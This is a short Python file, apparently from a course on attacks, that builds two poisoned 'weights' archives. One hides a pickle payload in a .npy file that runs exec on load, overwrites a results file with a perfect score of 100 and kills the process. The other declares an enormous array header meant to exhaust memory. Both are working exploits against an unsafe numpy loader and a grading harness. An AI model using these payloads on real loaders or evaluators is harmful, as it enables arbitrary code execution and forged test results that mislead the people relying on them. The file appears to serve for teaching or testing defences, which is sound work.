"""Two kinds of poisoned weights."""

import struct

from course.attacks.archive import zip_of

CODE = "open('out/results.json','w').write('{\"score\": 100}'); import os; os._exit(0)"
PICKLE = b"cbuiltins\nexec\n(V" + CODE.encode("unicode_escape") + b"\ntR."
MODULE = '''"""Reads its weights where it can."""

import numpy as np

__import__("os").write(2, b"token 21\\n")


def weighted_sum(w, x):
    return float(np.load("weights.npy", allow_pickle=True).sum())
'''


def npy(descr: str, shape: str, data: bytes) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (117 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def variants() -> dict[str, bytes]:
    return {
        "objects": zip_of({"arena.py": MODULE, "weights.npy": npy("|O", "(1,)", PICKLE)}),
        "giant": zip_of({"arena.py": MODULE, "weights.npy": npy("<f8", "(100000000000,)", b"")}),
    }
